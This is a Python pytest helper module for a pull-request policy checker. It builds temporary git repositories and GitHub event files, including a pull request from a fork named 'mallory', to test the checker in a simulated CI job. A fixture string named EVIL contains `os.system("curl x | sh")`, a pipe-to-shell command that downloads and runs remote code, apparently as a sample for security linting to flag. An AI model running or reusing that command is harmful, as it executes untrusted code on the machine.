"""A clone as a CI job has it, in which a pull request is built by a few lines of shell and judged in this process."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from gitflowguard.cli.main import main

POLICY = """\
preset: gitflow
message: {style: conventional}
rules: {malformed-message: error, unfinished-commit: error}
tools: {flake8: true, bandit: true}
quality: {new-only: true}
"""
APP = '"""App."""\n\nimport os\n\n\ndef here():\n    """Return it."""\n    return os.getcwd()\n'
EVIL = '"""E."""\n\nimport os\n\nos.system("curl x | sh")\nundefined_zz\n'
# new BRANCH START: begins a branch. c MESSAGE: commits all. many N: so many empty commits.
# pub BRANCH: origin has it where HEAD is.
PRELUDE = """\
new() { git switch -q -c "$1" "$2"; }
c() { git add -A; git commit -q --allow-empty --cleanup=verbatim -m "$1"; }
many() {
    { for i in $(seq "$1"); do
        printf 'commit refs/heads/%s\\ncommitter A <a@b> 1700000000 +0000\\n' "$(git branch --show-current)"
        printf 'data 7\\nfeat: x\\n'
        [ "$i" = 1 ] && echo "from $(git rev-parse HEAD)"; echo; done; } | git fast-import --quiet; }
pub() { git update-ref "refs/remotes/origin/$1" HEAD; }
"""


def sh(folder: Path, script: str) -> None:
    """Runs a script there, in which the first failure ends all."""
    done = subprocess.run(
        ["bash", "-e", "-c", PRELUDE + script],
        cwd=folder, env={**os.environ, "EVIL": EVIL}, capture_output=True, text=True, errors="replace",
        stdin=subprocess.DEVNULL, check=False,
    )  # fmt: skip
    assert done.returncode == 0, f"{script}\n{done.stderr}"


def template(folder: Path) -> Path:
    """main and develop with the policy, here and on origin; nothing of git's samples, so that a copy is cheap."""
    folder.mkdir()
    (folder / ".gitflowguard.yaml").write_text(POLICY)
    (folder / "app.py").write_text(APP)
    (folder / "notes.txt").write_text(EVIL)
    script = """\
git init -q --template= -b main
mkdir .git/info; git remote add origin https://git.example.invalid/acme/web.git
c "feat: start"; pub main
new develop main; c "feat: plan"; pub develop
git tag 1.0.0 main
"""
    sh(folder, script)
    return folder


class Clone:
    """One copy of the template."""

    def __init__(self, top: Path, said: pytest.CaptureFixture[str]) -> None:
        self.top = top
        self._said = said

    @classmethod
    def of(cls, source: Path, top: Path, said: pytest.CaptureFixture[str]) -> Clone:
        """A fresh copy."""
        shutil.copytree(source, top, symlinks=True)
        return cls(top, said)

    def sha(self, rev: str) -> str:
        """The commit of a revision."""
        argv = ("git", "rev-parse", "--verify", f"{rev}^{{commit}}")
        return subprocess.run(argv, cwd=self.top, capture_output=True, text=True, check=True).stdout.strip()

    def event(self, base: str, head: str, at: str = "", **more: Any) -> str:
        """A pull request's event in a file.

        more: `fork` (None: deleted), `author` (login), `type` (of the author), or fields of the pull request.
        """
        ours = {"id": 1, "full_name": "acme/web"}
        theirs = {False: ours, True: {"id": 2, "full_name": "mallory/web"}, None: None}[
            more.pop("fork", False)
        ]
        user = {"login": more.pop("author", "mallory"), "type": more.pop("type", "User")}
        pull = {
            "number": 7, "state": "open", "draft": False, "user": user, "mergeable": None,
            "base": {"ref": base, "sha": self.sha(f"refs/remotes/origin/{base}"), "repo": ours},
            "head": {"ref": head, "sha": self.sha(at or f"refs/remotes/origin/{head}"), "repo": theirs},
            **more,
        }  # fmt: skip
        return self.file({"action": "opened", "pull_request": pull})

    def group(self, base: str, ref: str, at: str) -> str:
        """A merge queue's event in a file."""
        group = {
            "base_ref": f"refs/heads/{base}", "base_sha": self.sha(f"refs/remotes/origin/{base}"),
            "head_ref": f"refs/heads/{ref}", "head_sha": self.sha(at),
        }  # fmt: skip
        return self.file({"action": "checks_requested", "merge_group": group})

    def file(self, body: Any) -> str:
        """An event in a file."""
        path = self.top.parent / "event.json"
        path.write_text(json.dumps(body))
        return str(path)

    def check(self, *words: str) -> tuple[int, str]:
        """`pr check` in the clone: its exit code, and all that it says."""
        self._said.readouterr()
        code = main(["pr", "check", "--no-radar", *words])
        return code, "".join(self._said.readouterr())
